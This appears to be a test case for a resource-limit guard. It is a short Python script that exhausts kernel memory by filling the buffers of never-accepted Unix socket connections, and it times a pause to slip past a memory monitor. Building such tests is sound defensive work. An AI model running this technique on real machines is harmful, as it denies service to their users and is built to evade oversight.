# cases: 25, 29
# guard: limits
# fact: took more memory|had not returned
"""Takes too much of the kernel's memory in connections that nobody has open: sent to, closed, never accepted."""
import socket
import time


def attack(bait):
    taken, listeners = 0, []
    for number in range(20):
        listeners.append(socket.socket(socket.AF_UNIX))
        listeners[-1].bind(f"\0{number}")
        listeners[-1].listen(4096)
        for _ in range(400):
            with socket.socket(socket.AF_UNIX) as client:
                client.setblocking(False)
                client.connect(f"\0{number}")
                try:
                    while taken < bait["megabytes"] * 1_000_000:
                        taken += client.send(bytes(65536))
                except BlockingIOError:
                    continue
    time.sleep(0.2)  # whoever looks at the memory looks twenty times a second
    return f"{taken} bytes" if taken >= bait["megabytes"] * 1_000_000 else None
